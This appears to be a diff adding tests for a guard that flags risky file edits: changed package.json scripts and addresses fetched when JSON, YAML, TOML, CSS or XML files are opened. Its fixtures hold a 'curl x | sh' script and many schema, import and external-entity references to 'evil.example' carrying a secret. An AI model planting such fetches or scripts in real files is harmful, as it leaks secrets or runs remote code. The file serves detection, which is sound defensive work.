@@ -1,0 +1,78 @@
+import { describe, expect, test } from "vitest";
+import { guardedChange } from "../../../src/base/guard/guarded-change";
+
+const manifest = (value: object): string => JSON.stringify(value, undefined, 2);
+const plain = manifest({ name: "a", scripts: { test: "node --test" } });
+
+describe("a manifest", () => {
+  test.each([
+    ["another script", manifest({ name: "a", scripts: { test: "curl x | sh" } })],
+    [
+      "one script more",
+      manifest({ name: "a", scripts: { test: "node --test", postinstall: "x" } }),
+    ],
+    ["no script any more", manifest({ name: "a" })],
+    ["hooks", manifest({ name: "a", scripts: { test: "node --test" }, husky: { hooks: {} } })],
+    ["a text that is no JSON", `${plain},`],
+  ])("is guarded with %s", (_what, after) => {
+    expect(guardedChange("package.json", plain, after)?.kind).toBe("scripts");
+    expect(guardedChange("a\\Package.JSON", plain, after)?.kind).toBe("scripts");
+  });
+
+  test("is guarded when it is new and has scripts, and ordinary without", () => {
+    expect(guardedChange("a/package.json", "", plain)).toEqual({
+      kind: "scripts",
+      name: "scripts",
+    });
+    expect(guardedChange("a/package.json", "", manifest({ name: "a" }))).toBeUndefined();
+  });
+
+  test("is ordinary where only its other fields change", () => {
+    const after = manifest({ name: "b", version: "1.0.0", scripts: { test: "node --test" } });
+    expect(guardedChange("package.json", plain, after)).toBeUndefined();
+    expect(guardedChange("data.json", plain, manifest({ scripts: 1 }))).toBeUndefined();
+  });
+});
+
+describe("an address that is fetched when a file is opened", () => {
+  const address = "https://evil.example/?k=SECRET";
+  test.each([
+    ["a.json", `{ "$schema": "${address}" }`],
+    ["a.json", `{ "\\u0024schema" : "https:\\/\\/evil.example\\/?k=SECRET" }`],
+    ["a.json", `{ "$schema": "//evil.example/s" }`],
+    ["a.json", `{ "$schema": "\\\\\\\\evil.example\\\\share" }`],
+    ["a.json", `{ "$schema": "file://evil.example/share" }`],
+    ["deep.json", `{ "a": { "$schema": "${address}" } }`],
+    ["a.yaml", `# yaml-language-server: $schema=${address}\na: 1`],
+    ["a.yaml", `$schema: ${address}`],
+    ["a.toml", `#:schema ${address}\na = 1`],
+    ["a.css", `@import url(${address});`],
+    ["a.css", `@import "${address}";`],
+    ["a.xml", `<!DOCTYPE a SYSTEM "${address}"><a/>`],
+    ["a.xml", `<!DOCTYPE a [<!ENTITY x SYSTEM "${address}">]><a/>`],
+    ["a.xml", `<a xsi:schemaLocation="urn:a ${address}"/>`],
+    ["a.xml", `<a xsi:noNamespaceSchemaLocation="${address}"/>`],
+    ["a.xml", `<?xml-model href="${address}"?><a/>`],
+  ])("is found in %s: %s", (path, after) => {
+    expect(guardedChange(path, "", after)?.kind).toBe("fetches");
+    expect(guardedChange(path, after, `${after}\n`)).toBeUndefined();
+  });
+
+  test("counts when it is another than before", () => {
+    const before = `{ "$schema": "https://a.example/s" }`;
+    expect(guardedChange("a.json", before, before.replace("/s", "/s?k=1"))).toEqual({
+      kind: "fetches",
+      name: "https://a.example/s?k=1",
+    });
+  });
+
+  test.each([
+    ["a.json", `{ "$schema": "./schema.json" }`],
+    ["a.json", `{ "$schema": "vscode://schemas/settings/user" }`],
+    ["a.py", "# see https://example.org"],
+    ["a.ts", 'import x from "./x";'],
+    ["a.svg", '<svg xmlns="http://www.w3.org/2000/svg"/>'],
+  ])("is none in %s: %s", (path, after) => {
+    expect(guardedChange(path, "", after)).toBeUndefined();
+  });
+});
